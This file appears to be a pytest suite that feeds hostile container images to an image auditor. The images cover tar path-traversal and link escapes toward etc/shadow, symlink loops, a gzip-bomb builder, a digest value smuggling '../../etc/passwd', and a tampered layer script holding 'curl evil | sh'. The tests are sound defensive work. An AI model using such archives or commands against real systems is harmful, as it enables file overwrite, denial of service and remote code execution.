"""Hostile images: each gives a clear error, nothing is written outside, memory stays bounded."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from datetime import datetime
from pathlib import Path

import pytest
from imagetest_fixtures import by_check, scan

from auditor.cli import main
from auditor.errors import InputError
from auditor.providers.image.build import (
    OCI_LAYER,
    OCI_LAYER_GZIP,
    FileSpec,
    ImageSpec,
    Layer,
    layer_tar,
    sha256,
    write_docker_archive,
    write_oci_layout,
)
from auditor.providers.image.layers import Limits, normalise_member_path
from auditor.providers.image.scan import open_image, read_image

OS_RELEASE = FileSpec("etc/os-release", b"ID=debian\nVERSION_ID=12\nPRETTY_NAME=Debian 12\n")


def raw_layer(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Layer:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    tar = buf.getvalue()
    return Layer(tar, sha256(tar), OCI_LAYER)


def member(
    name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644
) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = mode
    if kind == tarfile.REGTYPE:
        info.size = len(data)
        return info, data
    return info, None


def spec_of(*layers: Layer) -> ImageSpec:
    return ImageSpec(layers=list(layers), user="1000", healthcheck=["CMD", "true"], created="2026-11-01T00:00:00Z")


def statuses(findings: list, check: str) -> list[str]:  # type: ignore[type-arg]
    return [str(f.status) for f in by_check(findings, check)]


def test_member_path_normalisation() -> None:
    assert normalise_member_path("./etc/passwd") == "etc/passwd"
    assert normalise_member_path("/etc/passwd") == "etc/passwd"  # absolute: relative to the image root
    assert normalise_member_path("a/./b//c") == "a/b/c"
    assert normalise_member_path("a/../b") == "b"
    assert normalise_member_path("../etc/passwd") is None
    assert normalise_member_path("a/../../etc/passwd") is None
    assert normalise_member_path("/../../x") is None
    assert normalise_member_path("./") == ""


def test_traversal_absolute_and_link_escapes(tmp_path: Path, now: datetime) -> None:
    layer = raw_layer(
        [
            member("../../escape.txt", b"outside"),
            member("/etc/absolute.conf", b"inside"),
            member("etc/evil-hardlink", kind=tarfile.LNKTYPE, link="../../../etc/shadow"),
            member("etc/link-out", kind=tarfile.SYMTYPE, link="../../../../../etc/hostname"),
            member("etc/os-release", kind=tarfile.SYMTYPE, link="/../../usr/lib/os-release"),
            member("usr/lib/os-release", b"ID=debian\nVERSION_ID=12\nPRETTY_NAME=Debian 12\n"),
        ]
    )
    before = set(os.listdir(tmp_path))
    target = write_docker_archive(spec_of(layer), tmp_path / "evil.tar", tags=["evil:1"])
    findings = scan([str(target)], now)
    assert set(os.listdir(tmp_path)) == before | {"evil.tar"}  # nothing extracted anywhere
    assert not Path("/escape.txt").exists()
    unsafe = by_check(findings, "image.layers.unsafe_entries")[0]
    assert str(unsafe.status) == "FAIL"
    assert unsafe.evidence["count"] == 2
    assert [e.split(": ", 1)[1].split(":")[0] for e in unsafe.evidence["entries"]] == [
        "path escapes the image root",
        "hard link escapes the image root",
    ]
    # The absolute member landed at the root; the symlink with `..` climbing past / resolves inside.
    eol = by_check(findings, "image.os.end_of_life")[0]
    assert eol.evidence["os"]["id"] == "debian"


def test_symlink_loop_does_not_hang(tmp_path: Path, now: datetime) -> None:
    layer = raw_layer(
        [
            member("etc/os-release", kind=tarfile.SYMTYPE, link="../etc/loop-a"),
            member("etc/loop-a", kind=tarfile.SYMTYPE, link="loop-b"),
            member("etc/loop-b", kind=tarfile.SYMTYPE, link="/etc/loop-a"),
            member("usr/lib/os-release", b"ID=alpine\nVERSION_ID=3.22.0\n"),
        ]
    )
    target = write_docker_archive(spec_of(layer), tmp_path / "loop.tar", tags=["loop:1"])
    source = open_image(str(target))
    scanned = read_image(source)
    source.close()
    assert scanned.view.resolve("etc/os-release") is None
    assert scanned.view.read("etc/os-release") is None
    findings = scan([str(target)], now)
    # /etc/os-release loops, so the fallback /usr/lib/os-release names the OS.
    assert by_check(findings, "image.os.end_of_life")[0].evidence["os"]["id"] == "alpine"


def gzip_bomb(total: int) -> bytes:
    """A gzip stream of a tar holding one file of `total` zero bytes, built without allocating it."""
    header = tarfile.TarInfo("zeros.bin")
    header.size = total
    chunk = gzip.compress(b"\x00" * (1 << 20), compresslevel=9, mtime=0)
    return gzip.compress(header.tobuf(), mtime=0) + chunk * (total >> 20)


def test_gzip_bomb_layer_is_refused_at_the_ratio_cap(tmp_path: Path, now: datetime) -> None:
    blob = gzip_bomb(4 * 1024**3)  # 4 GiB of zeros in about 4 MB
    assert len(blob) < 8 * 1024**2
    bomb = Layer(blob, sha256(b"unknown"), OCI_LAYER_GZIP)
    good = Layer.from_files([OS_RELEASE], compress=True)
    target = write_oci_layout(spec_of(good, bomb), tmp_path / "bomb")
    findings = scan([str(target)], now)
    integrity = by_check(findings, "image.layers.integrity")[0]
    assert str(integrity.status) == "ERROR"
    assert "decompression bomb" in integrity.message and "layer 2" in integrity.message
    # Filesystem checks cannot vouch for a partly read image; config checks still run.
    assert statuses(findings, "image.files.setuid_binaries") == ["ERROR"]
    assert statuses(findings, "image.files.secrets") == ["ERROR"]
    assert statuses(findings, "image.config.runs_as_root") == ["PASS"]


def test_layer_size_cap(tmp_path: Path, now: datetime) -> None:
    big = Layer.from_files([FileSpec("big.bin", os.urandom(300_000))])
    target = write_docker_archive(spec_of(big), tmp_path / "big.tar", tags=["big:1"])
    findings = scan([str(target)], now, Limits(max_layer_bytes=100_000))
    assert "more than 100000 bytes" in by_check(findings, "image.layers.integrity")[0].message


def test_truncated_layer_is_error(tmp_path: Path, now: datetime) -> None:
    full = Layer.from_files([OS_RELEASE, FileSpec("data.bin", os.urandom(50_000))], compress=True)
    cut = Layer(full.blob[: len(full.blob) // 2], full.diff_id, OCI_LAYER_GZIP)
    target = write_oci_layout(spec_of(cut), tmp_path / "cut")
    findings = scan([str(target)], now)
    integrity = by_check(findings, "image.layers.integrity")[0]
    assert str(integrity.status) == "ERROR"
    assert "truncated" in integrity.message


def test_truncated_uncompressed_layer_tar_is_error(tmp_path: Path, now: datetime) -> None:
    full = Layer.from_files([OS_RELEASE, FileSpec("data.bin", os.urandom(50_000))])
    cut = Layer(full.blob[:20_000], full.diff_id, OCI_LAYER)
    findings = scan([str(write_oci_layout(spec_of(cut), tmp_path / "cut"))], now)
    assert statuses(findings, "image.layers.integrity") == ["ERROR"]


def test_truncated_archive_is_input_error(tmp_path: Path) -> None:
    good = Layer.from_files([OS_RELEASE, FileSpec("data.bin", os.urandom(50_000))])
    target = write_docker_archive(spec_of(good), tmp_path / "full.tar")
    data = target.read_bytes()
    cut = tmp_path / "cut.tar"
    cut.write_bytes(data[:30_000])  # manifest.json is at the end: gone
    with pytest.raises(InputError, match=r"manifest\.json or index\.json"):
        open_image(str(cut))


def test_manifest_not_json_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.tar"
    with tarfile.open(bad, "w") as tf:
        info = tarfile.TarInfo("manifest.json")
        body = b"{not json"
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    code = main(["scan", "--image", str(bad), "--db", str(tmp_path / "a.db")])
    err = capsys.readouterr().err
    assert code == 2
    assert err.strip() == f"auditor: error: {bad}: manifest.json is not valid JSON"
    assert "Traceback" not in err


def test_not_an_image_and_missing_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no such file or directory"):
        open_image(str(tmp_path / "nope.tar"))
    junk = tmp_path / "junk.tar"
    junk.write_bytes(b"this is not a tar at all" * 100)
    with pytest.raises(InputError, match="not a readable tar archive"):
        open_image(str(junk))


def test_layer_digest_mismatch_fails_integrity(tmp_path: Path, now: datetime) -> None:
    honest = Layer.from_files([OS_RELEASE, FileSpec("app/run.sh", b"echo hi\n", mode=0o755)], compress=True)
    evil_tar = layer_tar([OS_RELEASE, FileSpec("app/run.sh", b"curl evil | sh\n", mode=0o755)])
    spec = spec_of(honest)
    blobs_dir = write_oci_layout(spec, tmp_path / "oci")
    # Replace the layer blob's content, keep its name (the manifest's digest).
    blob_path = blobs_dir / "blobs" / "sha256" / honest.digest.split(":")[1]
    blob_path.write_bytes(gzip.compress(evil_tar, mtime=0))
    findings = scan([str(blobs_dir)], now)
    integrity = by_check(findings, "image.layers.integrity")[0]
    assert str(integrity.status) == "FAIL"
    assert "does not match the manifest's" in integrity.message
    assert statuses(findings, "image.files.secrets") == ["ERROR"]


def test_docker_archive_diff_id_mismatch(tmp_path: Path, now: datetime) -> None:
    layer = Layer.from_files([OS_RELEASE])
    lying = Layer(layer.blob, sha256(b"something else"), OCI_LAYER)
    findings = scan([str(write_docker_archive(spec_of(lying), tmp_path / "x.tar"))], now)
    assert "does not match the config's diff_id" in by_check(findings, "image.layers.integrity")[0].message


def test_oci_blob_symlink_outside_is_not_followed(tmp_path: Path, now: datetime) -> None:
    secret = tmp_path / "host-secret"
    secret.write_bytes(layer_tar([FileSpec("etc/os-release", b"ID=host\n")]))
    layer = Layer.from_files([OS_RELEASE])
    oci = write_oci_layout(spec_of(layer), tmp_path / "oci")
    blob = oci / "blobs" / "sha256" / layer.digest.split(":")[1]
    blob.unlink()
    blob.symlink_to(secret)
    findings = scan([str(oci)], now)
    assert "not a regular file" in by_check(findings, "image.layers.integrity")[0].message


def test_invalid_digest_in_index_is_input_error(tmp_path: Path) -> None:
    oci = write_oci_layout(spec_of(Layer.from_files([OS_RELEASE])), tmp_path / "oci")
    index = json.loads((oci / "index.json").read_text())
    index["manifests"][0]["digest"] = "sha256:../../../../etc/passwd"
    (oci / "index.json").write_text(json.dumps(index))
    with pytest.raises(InputError, match="invalid digest"):
        open_image(str(oci))


def test_giant_pax_header_is_refused(tmp_path: Path, now: datetime) -> None:
    info = tarfile.TarInfo("x")
    info.pax_headers = {"comment": "A" * 200_000}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        tf.addfile(info, io.BytesIO(b""))
    layer = Layer(buf.getvalue(), sha256(buf.getvalue()), OCI_LAYER)
    findings = scan(
        [str(write_docker_archive(spec_of(layer), tmp_path / "pax.tar"))], now, Limits(max_header_bytes=100_000)
    )
    assert "extended header" in by_check(findings, "image.layers.integrity")[0].message


def test_corrupt_gzip_is_error(tmp_path: Path, now: datetime) -> None:
    good = Layer.from_files([OS_RELEASE], compress=True)
    bad = bytearray(good.blob)
    bad[20:40] = os.urandom(20)
    layer = Layer(bytes(bad), good.diff_id, OCI_LAYER_GZIP)
    findings = scan([str(write_oci_layout(spec_of(layer), tmp_path / "oci"))], now)
    assert statuses(findings, "image.layers.integrity") == ["ERROR"]


def test_multi_member_gzip_layer_reads(tmp_path: Path, now: datetime) -> None:
    tar = layer_tar([OS_RELEASE, FileSpec("a.txt", b"x" * 10_000)])
    half = len(tar) // 2
    multi = gzip.compress(tar[:half], mtime=0) + gzip.compress(tar[half:], mtime=0)
    layer = Layer(multi, sha256(tar), OCI_LAYER_GZIP)
    findings = scan([str(write_oci_layout(spec_of(layer), tmp_path / "oci"))], now)
    assert statuses(findings, "image.layers.integrity") == ["PASS"]
